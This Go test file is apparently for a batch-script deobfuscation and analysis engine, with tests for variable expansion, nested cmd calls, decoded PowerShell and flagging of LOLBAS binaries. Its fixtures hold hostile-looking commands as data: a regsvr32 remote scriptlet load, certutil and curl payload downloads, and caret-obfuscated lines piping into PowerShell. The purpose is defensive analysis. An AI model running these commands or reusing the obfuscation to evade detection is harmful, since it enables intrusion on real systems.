package engine

import (
	"context"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/aledsdavies/batchdeob/internal/logging"
	"github.com/aledsdavies/batchdeob/pkgs/environ"
	"github.com/aledsdavies/batchdeob/pkgs/errors"
	"github.com/aledsdavies/batchdeob/pkgs/interpreter"
	"github.com/aledsdavies/batchdeob/pkgs/traits"
)

func newEngine(opts ...Option) *Engine {
	return New(append([]Option{WithLogger(logging.Discard())}, opts...)...)
}

func analyze(t *testing.T, script string, opts ...Option) *Result {
	t.Helper()
	res, err := newEngine(opts...).AnalyzeString(context.Background(), script)
	require.NoError(t, err)
	return res
}

func TestAnalyzeWallet(t *testing.T) {
	res := analyze(t, "set WALLET=43DTEF92be6XcPj5Z7U\r\necho %WALLET%\r\n")

	expected := []string{"set WALLET=43DTEF92be6XcPj5Z7U", "echo 43DTEF92be6XcPj5Z7U"}
	if diff := cmp.Diff(expected, res.Commands); diff != "" {
		t.Errorf("Commands mismatch (-expected +actual):\n%s", diff)
	}
	assert.Equal(t, "43DTEF92be6XcPj5Z7U", res.Env["wallet"])
	assert.False(t, res.Traits.OneLiner)
	assert.Empty(t, res.Diagnostics)
}

func TestAnalyzeLogicalLines(t *testing.T) {
	tests := []struct {
		name     string
		line     string
		expected []string
	}{
		{
			name:     "call expands a variable",
			line:     "set com=netstat /ano&&call %com%",
			expected: []string{"set com=netstat /ano", "call netstat /ano"},
		},
		{
			name:     "cmd expands a variable",
			line:     "set com=netstat /ano&&cmd /c %com%",
			expected: []string{"set com=netstat /ano", "cmd /c netstat /ano"},
		},
		{
			name: "names made of quotes and tabs",
			line: "set '\t\t= /ano&&set '\t=stat&& set '\t =net&&call set '   =%'\t %%'\t%%'\t\t%&&call %'   %",
			expected: []string{
				"set '\t\t= /ano",
				"set '\t=stat",
				"set '\t =net",
				"call set '   =netstat /ano",
				"call netstat /ano",
			},
		},
		{
			name: "chained substitutions",
			line: "set command=neZsZ7Z /7no&&set sub2=!command:7=a!&&set sub1=!sub2:Z=t!&&CALL %sub1%",
			expected: []string{
				"set command=neZsZ7Z /7no",
				"set sub2=neZsZaZ /ano",
				"set sub1=netstat /ano",
				"CALL netstat /ano",
			},
		},
		{
			name:     "commas and semicolons as separators",
			line:     ",;,cmd.exe,;,/c,;,echo;Command 1&&echo,Command 2",
			expected: []string{"cmd.exe   /c   echo Command 1", "echo Command 2"},
		},
		{
			name: "echo piped into a built up path",
			line: `s^et g^c^=^er^s&&s^e^t ^tf=^he^ll&&set^ f^a^=^pow&&^s^et^ dq^=C:\WINDOWS\System32\W^i^n^do^ws^!fa^!^!g^c^!!^t^f^!\^v^1^.0\^!^fa!^!^gc!!^tf^!&&^ech^o^ hos^tname^;^ ^ | !dq! -^no^p^ ^-`,
			expected: []string{
				"set gc=ers",
				"set tf=hell",
				"set fa=pow",
				`set dq=C:\WINDOWS\System32\Windowspowershell\v1.0\powershell`,
				"echo hostname;",
				`C:\WINDOWS\System32\Windowspowershell\v1.0\powershell -nop -`,
			},
		},
		{
			name:     "empty variables vanish and a dangling bang is dropped",
			line:     `ec%a%ho "Fi%b%nd Ev%c%il!"`,
			expected: []string{`echo "Find Evil"`},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := analyze(t, tt.line)
			if diff := cmp.Diff(tt.expected, res.Commands); diff != "" {
				t.Errorf("Commands mismatch (-expected +actual):\n%s", diff)
			}
		})
	}
}

func TestNestedCommandLine(t *testing.T) {
	res := analyze(t, "set com=netstat /ano&&cmd /c %com%")

	require.Len(t, res.Children, 1)
	child := res.Children[0]
	assert.Equal(t, 1, child.Parent)
	assert.Equal(t, "netstat /ano", child.Command)
	assert.Equal(t, []string{"netstat /ano"}, child.Result.Commands)
	assert.Equal(t, Digest([]byte("netstat /ano\n")), child.Digest)
	assert.Equal(t, child.Digest[:10]+".bat", child.Name())
	assert.Equal(t, []Child{child}, res.ChildrenOf(1))
	assert.Empty(t, res.ChildrenOf(0))
}

func TestCommaSeparatedChild(t *testing.T) {
	res := analyze(t, ",;,cmd.exe,;,/c,;,echo;Command 1&&echo,Command 2")

	require.Len(t, res.Children, 1)
	assert.Equal(t, 0, res.Children[0].Parent)
	assert.Equal(t, "echo Command 1", res.Children[0].Command)
}

func TestChildEnvironmentIsIsolated(t *testing.T) {
	res := analyze(t, "set A=1&&cmd /c \"set A=2\"\r\necho %A%")

	assert.Equal(t, []string{"set A=1", `cmd /c "set A=2"`, "echo 1"}, res.Commands)
	assert.Equal(t, "1", res.Env["a"])

	require.Len(t, res.Children, 1)
	assert.Equal(t, "set A=2", res.Children[0].Command)
	assert.Equal(t, "2", res.Children[0].Result.Env["a"])
}

func TestCommandGrouping(t *testing.T) {
	res := analyze(t, "set \"x=echo a&echo b\"\r\n%x%")

	expected := []string{`set "x=echo a&echo b"`, "echo a", "echo b"}
	if diff := cmp.Diff(expected, res.Commands); diff != "" {
		t.Errorf("Commands mismatch (-expected +actual):\n%s", diff)
	}
	assert.Equal(t, []traits.Grouping{{Command: "%x%", Normalized: "echo a&echo b"}}, res.Traits.CommandGrouping)
	require.Len(t, res.Traits.StartWithVar, 1)
	assert.Equal(t, "%x%", res.Traits.StartWithVar[0].Command)
}

func TestOneLinerClassification(t *testing.T) {
	tests := []struct {
		name     string
		script   string
		oneLiner bool
		complex  int
	}{
		{"single command", "echo a", true, 0},
		{"trailing blank lines", "echo a\r\n\r\n", true, 0},
		{"two lines", "echo a\r\necho b", false, 0},
		{"below threshold", "echo a&echo b&echo c", true, 0},
		{"complex", "echo a&echo b&echo c&echo d&echo e", true, 5},
		{"many lines", "echo a\necho b\necho c\necho d", false, 0},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := analyze(t, tt.script)
			assert.Equal(t, tt.oneLiner, res.Traits.OneLiner)
			assert.Equal(t, tt.complex, res.Traits.ComplexOneLiner)
		})
	}

	res := analyze(t, "echo a&echo b", WithComplexOneLinerThreshold(2))
	assert.Equal(t, 2, res.Traits.ComplexOneLiner)
}

func TestScriptsAreDeduplicated(t *testing.T) {
	res := analyze(t, "cmd /c powershell -enc d2hvYW1p\r\npowershell -enc d2hvYW1p\r\npowershell -e dwBoAG8AYQBtAGkA")

	assert.Empty(t, res.Scripts)
	require.Len(t, res.Children, 1)
	scripts := res.Children[0].Result.Scripts
	require.Len(t, scripts, 1)
	assert.Equal(t, []byte("whoami"), scripts[0].Body)
	assert.Equal(t, 0, scripts[0].Parent)
	assert.Equal(t, Digest([]byte("whoami")), scripts[0].Digest)
	assert.True(t, strings.HasSuffix(scripts[0].Name(), ".ps1"))
}

func TestScriptParentIndex(t *testing.T) {
	res := analyze(t, "echo start\r\npowershell -Command Get-Process")

	require.Len(t, res.Scripts, 1)
	assert.Equal(t, 1, res.Scripts[0].Parent)
	assert.Equal(t, "powershell -Command Get-Process", res.Scripts[0].Command)
	assert.Equal(t, []byte("Get-Process"), res.Scripts[0].Body)
}

func TestDiagnosticsDoNotStopAnalysis(t *testing.T) {
	res := analyze(t, "powershell -enc a\r\npowershell -enc\r\necho done")

	assert.Equal(t, []string{"powershell -enc a", "powershell -enc", "echo done"}, res.Commands)
	require.Len(t, res.Diagnostics, 2)
	assert.True(t, errors.IsErrorType(res.Diagnostics[0].Err, errors.ErrDecode))
	assert.True(t, errors.IsErrorType(res.Diagnostics[1].Err, errors.ErrArgument))
	assert.True(t, strings.HasPrefix(res.Diagnostics[0].String(), "powershell -enc a: "))
	assert.Empty(t, res.Scripts)
}

func TestDepthLimit(t *testing.T) {
	e := newEngine(WithMaxDepth(2))

	res, err := e.AnalyzeString(context.Background(), "cmd /c cmd /c cmd /c cmd /c echo x\r\necho never")
	require.Error(t, err)
	assert.True(t, errors.IsErrorType(err, errors.ErrDepthExceeded))

	require.NotNil(t, res)
	assert.Equal(t, []string{"cmd /c cmd /c cmd /c cmd /c echo x"}, res.Commands)
	require.Len(t, res.Children, 1)
	assert.Equal(t, "cmd /c cmd /c cmd /c echo x", res.Children[0].Command)

	res, err = e.AnalyzeString(context.Background(), "cmd /c cmd /c echo x")
	require.NoError(t, err)
	assert.Equal(t, []string{"echo x"}, res.Children[0].Result.Children[0].Result.Commands)
}

func TestLOLBASAndDownloads(t *testing.T) {
	res := analyze(t, "REGSVR32 /s /u /i:http://x/a.sct scrobj.dll\r\ncurl -o a.exe http://h/x")

	expectedHits := []traits.BinaryHit{{LOLBAS: "regsvr32", Command: "REGSVR32 /s /u /i:http://x/a.sct scrobj.dll"}}
	if diff := cmp.Diff(expectedHits, res.Traits.LOLBAS); diff != "" {
		t.Errorf("LOLBAS mismatch (-expected +actual):\n%s", diff)
	}
	expectedDownloads := []interpreter.Download{{Command: "curl -o a.exe http://h/x", Src: "http://h/x", Dst: "a.exe"}}
	if diff := cmp.Diff(expectedDownloads, res.Traits.Downloads); diff != "" {
		t.Errorf("Downloads mismatch (-expected +actual):\n%s", diff)
	}

	custom := analyze(t, "certutil -urlcache -f http://x a.exe", WithLOLBAS([]string{"certutil"}))
	assert.Len(t, custom.Traits.LOLBAS, 1)
}

func TestStreamIsTrimmedButValuesKeepSpaces(t *testing.T) {
	env := environ.FromMap(map[string]string{"x": "a "})
	res := analyze(t, "echo %x%&&set y=%x%", WithEnvironment(env))

	assert.Equal(t, []string{"echo a", "set y=a"}, res.Commands)
	assert.Equal(t, "a ", res.Env["y"])
}

func TestWithEnvironment(t *testing.T) {
	env := environ.FromMap(map[string]string{"payload": "whoami"})
	e := newEngine(WithEnvironment(env))
	env.Set("payload", "changed")

	res, err := e.AnalyzeString(context.Background(), "%payload% /all")
	require.NoError(t, err)
	assert.Equal(t, []string{"whoami /all"}, res.Commands)

	res = analyze(t, "echo %0", WithScriptName("dropper.bat"))
	assert.Equal(t, []string{"echo dropper.bat"}, res.Commands)
}

func TestDeobfuscate(t *testing.T) {
	out, err := Deobfuscate("s^et A=1\r\necho %A%\r\n", WithLogger(logging.Discard()))
	require.NoError(t, err)
	assert.Equal(t, "set A=1\r\necho 1", out)
}

func TestCancelledContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	res, err := newEngine().AnalyzeString(ctx, "echo a\r\necho b")
	assert.ErrorIs(t, err, context.Canceled)
	require.NotNil(t, res)
	assert.Empty(t, res.Commands)
}

func TestSessionIsIncremental(t *testing.T) {
	s := newEngine().NewSession()

	first, err := s.AnalyzeLogicalLine("echo a")
	require.NoError(t, err)
	assert.Equal(t, []string{"echo a"}, first.Commands)

	second, err := s.AnalyzeLogicalLine("set c=x&&cmd /c echo %c%")
	require.NoError(t, err)
	assert.Equal(t, []string{"set c=x", "cmd /c echo x"}, second.Commands)
	require.Len(t, second.Children, 1)
	assert.Equal(t, 1, second.Children[0].Parent)
	assert.Equal(t, "x", second.Env["c"])
	assert.Equal(t, "x", s.Env().Get("c"))

	total := s.Result()
	assert.Equal(t, []string{"echo a", "set c=x", "cmd /c echo x"}, total.Commands)
	require.Len(t, total.Children, 1)
	assert.Equal(t, 2, total.Children[0].Parent)
	assert.False(t, total.Traits.OneLiner)
}

func TestResultText(t *testing.T) {
	var empty Result
	assert.Equal(t, "", empty.Text())

	res := analyze(t, "set com=netstat /ano&&cmd /c %com%")
	assert.Equal(t, "set com=netstat /ano\ncmd /c netstat /ano\n", res.Text())
	assert.Equal(t, Digest([]byte(res.Text())), res.Digest())

	summary := res.Summary()
	assert.Contains(t, summary, "Analysis Summary:")
	assert.Contains(t, summary, "commands: 2")
	assert.Contains(t, summary, "children: 1")
	assert.Contains(t, summary, "traits: var_used, one-liner")
}

func TestNewRejectsBadSettings(t *testing.T) {
	assert.Panics(t, func() { New(WithMaxDepth(0)) })
	assert.Panics(t, func() { New(WithComplexOneLinerThreshold(0)) })
}
